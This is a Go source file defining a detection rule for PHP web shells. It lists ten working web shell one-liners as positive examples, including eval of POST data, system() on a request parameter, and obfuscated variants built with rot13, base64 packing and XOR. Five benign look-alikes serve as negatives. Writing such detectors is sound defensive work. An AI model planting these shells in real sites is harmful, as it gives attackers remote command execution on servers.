package rule

import b "taisei/detect/behaviour"

// webshell: a page of a server runs what whoever asks for it sends.
func webshell() []Rule {
	return []Rule{
		{
			ID: "web_shell", Severity: Critical,
			When: []Condition{{Sources: []string{b.Request}, Sinks: []string{b.Code, b.Process}, Slots: []string{"whole"}}},
			Examples: []Example{
				One("code from a field", "a.php", "<?php @eval($_POST['c']);"),
				One("a command", "a.php", "<?php if (isset($_REQUEST['cmd'])) { echo '<pre>'; system($_REQUEST['cmd'] . ' 2>&1'); }"),
				One("a function put together", "a.php", "<?php $f = 'as' . 'sert'; $f($_POST['x']);"),
				One("letters turned round", "a.php", "<?php $k = strrev(str_rot13('pdovhs')); $f = str_rot13('flfgrz'); $f(base64_decode($_COOKIE['k']));"),
				One("a shell that is packed", "a.php", "<?php eval(gzinflate(base64_decode('c0gtS8zRUIl3DfAPDolWj1KP1bTmAgA=')));$g=create_function('',$_POST['y']);$g();"),
				One("a callback", "a.php", "<?php array_map('assert', array($_GET['q']));"),
				One("a pattern's flag", "a.php", "<?php preg_replace('/.*/e', $_POST['x'], '');"),
				One("whatever is asked for", "a.php", "<?php $_GET['a']($_POST['b']);"),
				One("the body", "a.php", "<?php $c = file_get_contents('php://input'); eval($c);"),
				One("letters put against each other", "a.php", "<?php $_ = ('#' ^ 'P') . ('*' ^ 'S') . ('#' ^ 'P') . ('%' ^ 'Q') . ('#' ^ 'F') . ('-' ^ '@'); $_(${'_' . 'POST'}['x']);"),
			},
			Neighbours: []Example{
				One("a value in a command", "a.php", "<?php $name = escapeshellarg($_GET['name']); system('convert -resize 100x100 uploads/' . $name . ' thumbnails/' . $name);"),
				One("printed", "a.php", "<?php echo htmlspecialchars($_POST['c']);"),
				One("an action by its name", "a.php", "<?php $action = $_GET['action']; if (method_exists($controller, $action)) { $controller->$action(); }"),
				One("a template", "a.php", "<?php function render($file, $data) { extract($data); ob_start(); include $file; return ob_get_clean(); } echo render(__DIR__ . '/page.phtml', ['name' => $_GET['name']]);"),
				One("an assertion", "a.php", "<?php assert(is_string($_GET['q'])); assert(strlen($_GET['q']) > 3);"),
			},
		},
	}
}
